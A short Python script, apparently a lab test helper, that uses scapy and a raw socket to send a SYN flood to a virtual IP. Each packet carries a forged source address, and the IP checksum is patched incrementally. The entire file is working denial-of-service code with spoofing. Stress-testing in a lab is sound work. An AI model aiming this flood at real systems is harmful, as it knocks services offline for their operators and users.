#!/usr/bin/python3
"""A SYN flood of a lab: each SYN from another forged client.

_syn_flood.py INTERFACE DESTINATION_MAC VIP PORT COUNT
"""
import socket
import struct
import sys
import time

from scapy.all import IP, TCP, Ether

interface, mac, vip, port, count = *sys.argv[1:4], int(sys.argv[4]), int(sys.argv[5])
frame = bytearray(bytes(Ether(src="02:00:00:00:00:07", dst=mac, type=0x0800) /
                        IP(src="198.18.0.0", dst=vip) / TCP(sport=1024, dport=port, flags="S")))
IP_CHECKSUM, CLIENT_LOW_HALF = 24, 28  # offsets in the frame
base = struct.unpack_from("!H", frame, IP_CHECKSUM)[0]

with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
    link.bind((interface, 0))
    for number in range(count):
        struct.pack_into("!H", frame, CLIENT_LOW_HALF, number)
        # RFC 1624: the checksum without the address's old half, 0, and with the new one.
        total = (~base & 0xffff) + number
        total = (total & 0xffff) + (total >> 16)
        struct.pack_into("!H", frame, IP_CHECKSUM, ~total & 0xffff)
        link.send(frame)
        if number % 64 == 63:
            time.sleep(0.002)  # no faster than a device's ring is emptied
